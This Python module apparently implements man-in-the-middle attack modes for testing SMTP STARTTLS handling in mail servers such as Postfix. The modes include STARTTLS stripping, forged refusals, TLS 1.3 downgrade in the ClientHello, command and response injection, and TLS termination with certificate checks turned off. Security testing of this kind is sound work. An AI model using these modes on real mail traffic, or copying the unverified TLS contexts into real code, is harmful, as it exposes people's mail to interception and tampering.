"""What the man in the middle does to a dialogue, one class per attack."""
import ssl

VERSIONS = {"1.0": ssl.TLSVersion.TLSv1, "1.1": ssl.TLSVersion.TLSv1_1,
            "1.2": ssl.TLSVersion.TLSv1_2, "1.3": ssl.TLSVersion.TLSv1_3}


# supported_versions (RFC 8446 4.2.1) as Postfix has OpenSSL send it, four versions from 1.3 down;
# and with a reserved value (RFC 8701) where 1.3 stood.
OFFERS_13 = bytes.fromhex("002b000908" "0304" "0303")
OFFERS_GREASE = bytes.fromhex("002b000908" "0a0a" "0303")


class Reset(Exception):
    """Both connections were aborted on purpose."""


class Mode:
    """Changes nothing. Hooks get whole lines while the dialogue is in clear."""

    def __init__(self, opts):
        self.opts = opts

    def client_line(self, s, line):
        return line

    def server_lines(self, s, lines):
        return lines

    def raw(self, s, data, from_client):
        return data


class KeywordRemoved(Mode):
    """The STARTTLS line goes; the line before takes over as the last one if need be."""

    def server_lines(self, s, lines):
        kept = [l for l in lines if not is_offer(l)]
        if len(kept) < len(lines) and kept and lines[-1][:4] == b"250 ":
            kept[-1] = b"250 " + kept[-1][4:]
        return kept


class KeywordGarbled(Mode):
    """Same length, other letters: what a firewall that rewrites in place does."""

    def server_lines(self, s, lines):
        return [l[:4] + b"XXXXXXXA\r\n" if is_offer(l) else l for l in lines]


class Refused(Mode):
    """STARTTLS never reaches the server; the answer is ours."""

    reply = b"454 4.7.0 TLS not available due to temporary reason\r\n"

    def client_line(self, s, line):
        if is_starttls(line):
            s.client.send(self.reply)
            return b""
        return line


class Refused502(Refused):
    reply = b"502 5.5.1 Command not implemented\r\n"


class DuplicateReply(Mode):
    """A refusal of ours comes first, then the server's own 220, in a segment each."""

    def server_lines(self, s, lines):
        if s.asked_tls and lines[0][:3] == b"220":
            s.client.send(Refused.reply)
        return lines


class EhloRefused(Mode):
    """The host name stays in the banner, else Postfix would not even try EHLO."""

    def server_lines(self, s, lines):
        if s.banner_seen:
            return lines
        s.banner_seen = True
        return [mask_banner(lines[0], keep=2)] + lines[1:]

    def client_line(self, s, line):
        if line[:5].upper() == b"EHLO ":
            s.client.send(b"502 5.5.1 Command not implemented\r\n")
            return b""
        return line


class BannerMasked(Mode):
    """Nothing but asterisks after 220: Postfix takes it for a PIX and says HELO."""

    def server_lines(self, s, lines):
        if s.banner_seen:
            return lines
        s.banner_seen = True
        return [mask_banner(lines[0], keep=1)] + lines[1:]


class CommandOverwritten(Mode):
    def client_line(self, s, line):
        return b"XXXXXXXX\r\n" if is_starttls(line) else line


class ResetHello(Mode):
    """Both ends are reset as soon as the ClientHello has gone by."""

    def raw(self, s, data, from_client):
        if from_client and data[:1] == b"\x16":
            s.server.send(data)
            s.reset()
        return data


class VersionStripped(Mode):
    """The ClientHello loses its offer of TLS 1.3; its length stays, and so does all else.

    A server that knows 1.3 then says in ServerHello.random that it was made to choose less.
    """

    def raw(self, s, data, from_client):
        if from_client and data[:1] == b"\x16" and data[5:6] == b"\x01":
            return data.replace(OFFERS_13, OFFERS_GREASE, 1)
        return data


class CommandInjection(Mode):
    """A command rides behind STARTTLS in the same segment."""

    def client_line(self, s, line):
        return line + b"RSET\r\nNOOP injected\r\n" if is_starttls(line) else line


class ResponseInjection(Mode):
    """Replies ride behind the 220 in the same segment."""

    def server_lines(self, s, lines):
        if s.asked_tls and lines and lines[0][:3] == b"220":
            return lines + [b"250-mx1.example.org\r\n", b"250 AUTH PLAIN LOGIN\r\n"]
        return lines


class Eaten220(Mode):
    """We say 220 ourselves and pass the rest on: the server reads the ClientHello as commands."""

    def client_line(self, s, line):
        if is_starttls(line):
            s.client.send(b"220 2.0.0 Ready to start TLS\r\n")
            s.plain = False
            return b""
        return line


class Terminate(Mode):
    """TLS ends here, with our certificate; a second TLS session goes on to the server."""

    def server_lines(self, s, lines):
        if s.asked_tls and lines and lines[0][:3] == b"220":
            s.server.start_tls(self.context(ssl.PROTOCOL_TLS_CLIENT, self.opts.server_max), False)
            s.client.send(lines[0])
            s.client.start_tls(self.context(ssl.PROTOCOL_TLS_SERVER, self.opts.client_max), True)
            s.plain = False
            return []
        return self.renamed(lines)

    def renamed(self, lines):
        """A rogue MX speaks under the name that the forged answer gave it."""
        if not self.opts.rename:
            return lines
        name = self.opts.rename.encode()
        return [l.replace(b"mx1.example.org", name) for l in lines]

    def context(self, side, newest):
        ctx = ssl.SSLContext(side)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        # Old versions need the lowest security level of OpenSSL 3.
        ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
        ctx.minimum_version = ssl.TLSVersion.TLSv1
        ctx.maximum_version = VERSIONS[newest]
        if side == ssl.PROTOCOL_TLS_SERVER:
            ctx.load_cert_chain(self.opts.cert)
        return ctx


class PlainOnward(Terminate):
    """TLS with the sender, clear text with the server, which only sees a client without TLS."""

    def client_line(self, s, line):
        if is_starttls(line):
            s.client.send(b"220 2.0.0 Ready to start TLS\r\n")
            s.client.start_tls(self.context(ssl.PROTOCOL_TLS_SERVER, self.opts.client_max), True)
            s.plain = False
            return b""
        return line


MODES = {"pass": Mode, "keyword-removed": KeywordRemoved, "keyword-garbled": KeywordGarbled,
         "inject-454": Refused, "inject-5xx": Refused502, "ehlo-refused": EhloRefused,
         "duplicate-reply": DuplicateReply, "version-stripped": VersionStripped,
         "banner-masked": BannerMasked, "command-overwritten": CommandOverwritten,
         "reset-clienthello": ResetHello, "command-injection": CommandInjection,
         "response-injection": ResponseInjection, "no-tls-after-220": Eaten220,
         "terminate": Terminate, "plain-onward": PlainOnward}


def is_offer(line):
    return line[:3] == b"250" and line[4:].strip().upper() == b"STARTTLS"


def is_starttls(line):
    return line.strip().upper() == b"STARTTLS"


def mask_banner(line, keep):
    """Asterisks for every visible character after the first `keep` words."""
    words = line.rstrip(b"\r\n").split(b" ")
    return b" ".join(words[:keep] + [b"*" * len(w) for w in words[keep:]]) + b"\r\n"
